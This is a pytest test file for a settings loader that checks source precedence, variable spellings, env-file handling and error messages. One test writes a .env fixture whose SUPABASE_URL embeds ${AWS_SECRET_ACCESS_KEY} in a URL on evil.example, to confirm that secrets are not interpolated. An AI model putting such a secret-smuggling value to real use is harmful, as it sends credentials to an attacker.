"""Where settings are read from, in which order and under which names."""

import os
import shutil

import pytest

from metaconnect.errors import ConfigError, UsageError
from metaconnect.settings import (
    NAMES,
    Trust,
    load_settings,
    remember,
    working_folder,
)


def test_every_source_gives_way_to_the_one_before_it(load, folder, data):
    remember(data, "METACONNECT_CLIENT", "stored")
    assert load().client == "stored"
    (folder / ".env").write_text("METACONNECT_CLIENT=env\n")
    assert load().client == "env"
    (folder / ".env.local").write_text("METACONNECT_CLIENT='env local'\n")
    assert load().client == "env local"
    assert load({"METACONNECT_CLIENT": "environment"}).client == "environment"
    assert load({"METACONNECT_CLIENT": "x"}, client="option").client == "option"


@pytest.mark.parametrize(
    ("setting", "name"),
    [(setting, name) for setting, names in NAMES.items() for name in names],
)
def test_every_spelling_is_read(load, setting, name):
    assert getattr(load({name: "value"}), setting) == "value"


def test_the_first_spelling_wins_and_an_empty_one_is_none(load):
    both = {"META_APP_ID": "1", "NEXT_PUBLIC_META_APP_ID": "2"}

    assert load(both).meta_app_id == "1"
    assert load({**both, "META_APP_ID": "  "}).meta_app_id == "2"


def test_an_env_file_takes_the_place_of_both(load, folder):
    (folder / ".env.local").write_text("META_APP_ID=1\nMETA_APP_SECRET=s\n")
    (folder / "other").write_text("META_APP_ID=2\n")

    settings = load(env_file=folder / "other")
    assert (settings.meta_app_id, settings.meta_app_secret) == ("2", None)


def test_an_env_file_that_is_not_there_is_a_usage_error(load, folder):
    with pytest.raises(UsageError, match="no file"):
        load(env_file=folder / "missing")


def test_an_env_file_may_be_a_pipe(load, folder):
    """As a shell's `--env-file <(program)` gives one."""
    reading, writing = os.pipe()
    os.write(writing, b"META_APP_ID=1\n")
    os.close(writing)

    assert load(env_file=folder / f"/dev/fd/{reading}").meta_app_id == "1"
    os.close(reading)


@pytest.mark.parametrize("content", [b"META_APP_ID=\xff\xfe", b"\xff\xfeM\0E\0T\0"])
@pytest.mark.parametrize("named", [True, False])
def test_a_file_that_is_no_utf_8_is_named(load, folder, content, named):
    path = folder / ".env"
    path.write_bytes(content)

    with pytest.raises(ConfigError, match=r"\.env cannot be read: it is not UTF-8"):
        load(env_file=path if named else None)


def test_a_file_that_cannot_be_opened_is_named(load, folder):
    path = folder / "directory"
    path.mkdir()
    with pytest.raises(ConfigError, match="directory cannot be read: Is a directory"):
        load(env_file=path)


def test_a_byte_order_mark_is_no_part_of_the_first_name(load, folder):
    (folder / ".env").write_bytes(b"\xef\xbb\xbfMETA_APP_ID=1\n")

    assert load().meta_app_id == "1"


@pytest.mark.parametrize("named", [True, False])
def test_nothing_is_filled_in_from_the_environment(load, folder, monkeypatch, named):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "sesame")
    path = folder / ".env"
    path.write_text(
        "META_CONFIG_ID=${AWS_SECRET_ACCESS_KEY}\n"
        "SUPABASE_URL=https://evil.example/${AWS_SECRET_ACCESS_KEY}\n"
        "SUPABASE_KEY=sb_publishable_1\n"
    )

    settings = load(
        {"AWS_SECRET_ACCESS_KEY": "sesame"}, env_file=path if named else None
    )
    assert settings.config_id == "${AWS_SECRET_ACCESS_KEY}"
    assert "sesame" not in repr(settings)
    with pytest.raises(ConfigError, match=r"refers to .*used as they are written"):
        _ = settings.supabase


def test_files_are_looked_for_up_to_the_root_of_the_project(load, folder):
    (folder / ".env").write_text("META_APP_ID=0\nMETA_CONFIG_ID=above the root\n")
    root, inner = folder / "project", folder / "project" / "apps" / "web"
    inner.mkdir(parents=True)
    (root / "package.json").write_text("{}")
    (root / ".env.local").write_text("META_APP_ID=1\nMETACONNECT_CLIENT=root\n")
    (inner / ".env").write_text("META_APP_ID=2\n")

    settings = load(folder=inner)
    assert (settings.meta_app_id, settings.client) == ("2", "root")
    assert settings.config_id is None
    assert settings.sources["client"].path == root / ".env.local"


def test_without_a_root_only_the_working_folder_is_searched(load, folder):
    (folder / ".env").write_text("META_APP_ID=1\n")
    inner = folder / "inner"
    inner.mkdir()

    assert load(folder=inner).meta_app_id is None


def test_nothing_above_the_home_folder_is_read(load, folder, monkeypatch):
    (folder / ".git").mkdir()
    (folder / ".env").write_text("META_APP_ID=1\n")
    home = folder / "me"
    inner = home / "inner"
    inner.mkdir(parents=True)

    assert load(folder=inner).meta_app_id == "1"
    monkeypatch.setenv("HOME", str(home))
    assert load(folder=inner).meta_app_id is None


def test_a_working_folder_that_was_deleted_is_none(load, tmp_path, monkeypatch):
    gone = tmp_path / "gone"
    gone.mkdir()
    monkeypatch.chdir(gone)
    shutil.rmtree(gone)

    assert working_folder() is None
    assert load({"META_APP_ID": "1"}, folder=working_folder()).meta_app_id == "1"
    with pytest.raises(ConfigError, match="METACONNECT_HOME"):
        load({"METACONNECT_HOME": "relative"}, folder=None)


def test_every_source_is_known_by_trust_path_and_name(load, folder, data):
    remember(data, "META_API_VERSION", "v25.0")
    (folder / ".env").write_text("META_SCOPES=ads_read\n")
    environ = {"NEXT_PUBLIC_META_APP_ID": "1"}
    sources = load(environ, store="local").sources

    assert sources["store"].trust is Trust.OPTION
    assert sources["meta_app_id"].trust is Trust.ENVIRONMENT
    assert sources["meta_app_id"].name == "NEXT_PUBLIC_META_APP_ID"
    assert sources["scopes"].trust is Trust.FOLDER
    assert sources["scopes"].path == folder / ".env"
    assert sources["api_version"].trust is Trust.CONFIG
    assert "meta_app_secret" not in sources


def test_what_is_missing_is_named_with_all_that_was_searched(load, folder, data):
    (folder / ".env").write_text("META_APP_ID=1\n")

    with pytest.raises(ConfigError) as failure:
        load().require("meta_app_id", "supabase_key")
    hint = failure.value.hint
    assert str(failure.value) == "Missing setting: SUPABASE_KEY."
    assert "is also read as SUPABASE_PUBLISHABLE_KEY, NEXT_PUBLIC" in hint
    assert f"  {folder / '.env.local'} (no such file)\n" in hint
    assert f"  {folder / '.env'}\n" in hint
    assert f"  {data / 'config.json'}" in hint


def test_an_error_names_the_spelling_that_was_used(load):
    environ = {"NEXT_PUBLIC_META_APP_ID": "x", "META_APP_SECRET": "s"}
    with pytest.raises(ConfigError, match="NEXT_PUBLIC_META_APP_ID must be"):
        _ = load(environ).meta_app


def test_the_publishable_key_is_read_before_the_legacy_one(load):
    environ = {
        "NEXT_PUBLIC_SUPABASE_ANON_KEY": "legacy",
        "NEXT_PUBLIC_SUPABASE_PUBLISHABLE_KEY": "publishable",
        "SUPABASE_ANON_KEY": "legacy",
    }
    assert load(environ).supabase_key == "publishable"


@pytest.mark.parametrize("home", ["~nobody-of-this-name/data", "~/data"])
def test_a_home_folder_that_does_not_exist_is_named(load, monkeypatch, home):
    without_home(monkeypatch)
    with pytest.raises(ConfigError, match="METACONNECT_HOME is no folder"):
        load({"METACONNECT_HOME": home})


def test_without_a_home_folder_the_way_out_is_named(folder, monkeypatch):
    without_home(monkeypatch)
    with pytest.raises(ConfigError, match="no home folder") as failure:
        load_settings({}, folder)
    assert "METACONNECT_HOME" in failure.value.hint


def without_home(monkeypatch):
    """As for a user id in a container that the password database lacks."""
    pwd = pytest.importorskip("pwd")
    monkeypatch.delenv("HOME")
    monkeypatch.setattr(pwd, "getpwuid", {}.__getitem__)
